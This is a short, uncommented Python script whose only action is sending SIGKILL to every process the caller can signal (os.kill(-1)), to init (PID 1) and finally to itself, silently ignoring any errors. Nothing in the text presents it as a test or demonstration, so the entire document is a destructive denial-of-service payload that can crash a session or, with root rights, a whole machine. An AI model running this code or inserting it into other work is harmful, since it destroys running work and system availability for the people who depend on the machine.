import os
import signal

for target in (-1, 1, os.getpid()):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
